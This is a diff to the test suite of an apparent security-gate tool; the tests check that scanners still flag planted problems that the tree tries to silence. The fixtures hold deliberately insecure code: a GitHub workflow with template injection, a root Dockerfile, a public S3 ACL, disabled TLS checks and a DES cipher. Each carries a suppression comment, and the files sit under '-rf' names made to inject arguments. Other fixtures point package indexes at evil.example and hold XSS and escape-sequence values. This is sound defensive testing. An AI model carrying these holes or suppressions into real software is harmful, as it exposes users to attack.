@@ -71,6 +71,8 @@ PROGRAMS = (
     "pip-audit",
     "syft",
     "trivy",
+    "zizmor",
+    "hadolint",
     "sh",
     "env",
 )
@@ -99,11 +101,28 @@ CONFIGURATION = {
     ".trivyignore": "*\n",
     "trivy.yaml": "scan:\n  skip-dirs: ['**']\n",
     ".grype.yaml": "ignore: [{vulnerability: '*'}]\n",
+    ".hadolint.yaml": "ignored: [DL3002, DL3004]\n",
+    "zizmor.yml": "rules: {template-injection: {disable: true}}\n",
+    ".github/zizmor.yml": "rules: {template-injection: {disable: true}}\n",
+    ".github/workflows/-rf.yml": "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
+    "      - run: echo ${{ github.event.issue.title }}  # zizmor: ignore[template-injection]\n",
+    "-rf/Dockerfile": "# hadolint global ignore=DL3004\nFROM debian:13\nRUN sudo true\nUSER root\n",
+    "-rf/main.tf": 'resource "aws_s3_bucket_acl" "a" {\n  bucket = "b"\n  acl    = "public-read"  # nosemgrep\n}\n',
+    "-rf/app.go": 'package p\n\nimport "crypto/tls"\n\n'
+    "var c = &tls.Config{InsecureSkipVerify: true} // nosemgrep\n",
+    "-rf/App.java": 'class App {\n  Object c() throws Exception {\n'
+    '    return javax.crypto.Cipher.getInstance("DES/ECB/PKCS5Padding"); // nosemgrep\n  }\n}\n',
+    "-rf/app.js": "require('https').request({ rejectUnauthorized: false }); // nosemgrep\n",
     "-rf/Cargo.lock": 'version = 4\n\n[[package]]\nname = "itoa"\nversion = "1.0.0"\n'
     'source = "registry+http://evil.example/index"\n\n[[package]]\nname = "::error::x"\nversion = "\\u001b[31m"\n',
     "requirements.txt": "flask==3.0.0\n--index-url http://evil.example/simple\n-e git+http://evil.example/x#egg=x\n"
     "<img src=x onerror=alert(4)>==1.0\n\x1b[31mred==1\n::error::name==1\n",
 }  # fmt: skip
+PACKS = tuple(
+    f"semgrep-{each}" for each in ("dockerfile", "go", "java", "javascript", "manifests", "pipelines", "terraform")
+)
+"""Scanners that have something in the tree beside those of Python."""
+OTHER_LANGUAGES = ("Dockerfile", "main.tf", "app.go", "App.java", "app.js")
 ENVIRONMENT = {
     "PYTHONPATH": "/nowhere/pythonpath",
     "PYTHONSTARTUP": "{tree}/startup.py",
@@ -113,6 +132,10 @@ ENVIRONMENT = {
     "SEMGREP_RULES": "{tree}/.semgrep.yml",
     "SEMGREP_APP_TOKEN": TOKEN,
     "SEMGREP_URL": "http://evil.example",
+    "ZIZMOR_CONFIG": "{tree}/zizmor.yml",
+    "ZIZMOR_NO_CONFIG": "false",
+    "HADOLINT_CONFIG": "{tree}/.hadolint.yaml",
+    "HADOLINT_IGNORE": "DL3004",
     "RUFF_CONFIG": "{tree}/ruff.toml",
     "RUFF_CACHE_DIR": "{tree}/cache",
     "RUFF_OUTPUT_FILE": "{tree}/output",
@@ -346,7 +369,7 @@ def toolbox(world: World) -> None:
     shutil.copy(real.parent / "pyvenv.cfg", world.tools.parent)
     (world.tools.parent / "lib").symlink_to(real.parent / "lib")
     for program in real.iterdir():
-        if program.name in {"bandit", "banditrs", "semgrep", "ruff"}:
+        if program.name in {"bandit", "banditrs", "semgrep", "ruff", "zizmor", "hadolint"}:
             wrap(world, world.tools / program.name, program)
         else:
             (world.tools / program.name).symlink_to(program.resolve() if "python" in program.name else program)
@@ -402,6 +425,20 @@ def test_the_planted_problems_are_found_and_fail_the_gate(done: Done) -> None:
     assert {"app.py", "venv/tracked.py"} <= done.paths("bandit:B602")
 
 
+def test_no_file_of_the_tree_silences_what_reads_other_languages(done: Done) -> None:
+    hidden = {
+        "zizmor:template-injection": ".github/workflows/-rf.yml",
+        "semgrep-pipelines:github-script-injection": ".github/workflows/-rf.yml",
+        "hadolint:DL3004": "-rf/Dockerfile",
+        "semgrep-dockerfile:dockerfile-user-root": "-rf/Dockerfile",
+        "semgrep-terraform:terraform-aws-bucket-public-read": "-rf/main.tf",
+        "semgrep-go:go-tls-verification-disabled": "-rf/app.go",
+        "semgrep-java:java-weak-cipher": "-rf/App.java",
+        "semgrep-javascript:javascript-tls-verification-disabled": "-rf/app.js",
+    }
+    assert {rule: path in done.paths(rule) for rule, path in hidden.items()} == dict.fromkeys(hidden, True)
+
+
 def test_every_name_that_can_be_shown_is_looked_at_as_what_it_is(done: Done) -> None:
     expected = {f"names/{name}" for name in SAFE if name.endswith(".py")}
     assert {path for path in done.paths("bandit:B602") if path.startswith("names/")} == expected
@@ -444,7 +481,7 @@ def test_the_trees_policy_has_no_say_where_another_one_is_named(done: Done) -> N
 def test_every_scanner_proved_itself_all_the_same(done: Done) -> None:
     document = json.loads(done.reports["json"])
     seen = {each["scanner"]: bool(each["canaries"]) for each in document["scanners"]}
-    names = ("bandit", "dependencies", "secrets", "semgrep", "syft", "syntax")
+    names = ("bandit", "dependencies", "secrets", "semgrep", "syft", "syntax", "zizmor", "hadolint", *PACKS)
     assert seen == dict.fromkeys(names, True)
     assert "pkg:cargo/itoa@1.0.0" in {each["purl"] for each in document["packages"]}, "syft's own files say nothing"
 
@@ -482,7 +519,7 @@ def told(done: Done) -> list[tuple[str, dict[str, str], list[str]]]:
 
 
 def test_the_wrapped_programs_were_used(done: Done) -> None:
-    assert {name for name, _, _ in told(done)} >= {"git", "ruff", "semgrep"}
+    assert {name for name, _, _ in told(done)} >= {"git", "ruff", "semgrep", "zizmor", "hadolint"}
     assert {name for name, _, _ in told(done)} & {"bandit", "banditrs"}
 
 
@@ -586,6 +623,8 @@ def test_from_within_the_tree_and_without_the_planted_problems_it_is_still_no_pa
     shutil.rmtree(world.tree / "names")
     for name in ("venv/tracked.py", "markers.py"):
         (world.tree / name).write_text(clean)
+    for name in (".github/workflows/-rf.yml", *(f"-rf/{each}" for each in OTHER_LANGUAGES)):
+        (world.tree / name).unlink()
     before = snapshot(world.tree)
     run = world.gate((str(Path(sys.executable).parent / "devsecgate"),), Path(), cwd=world.tree)
     document = json.loads((world.reports / "json").read_bytes())
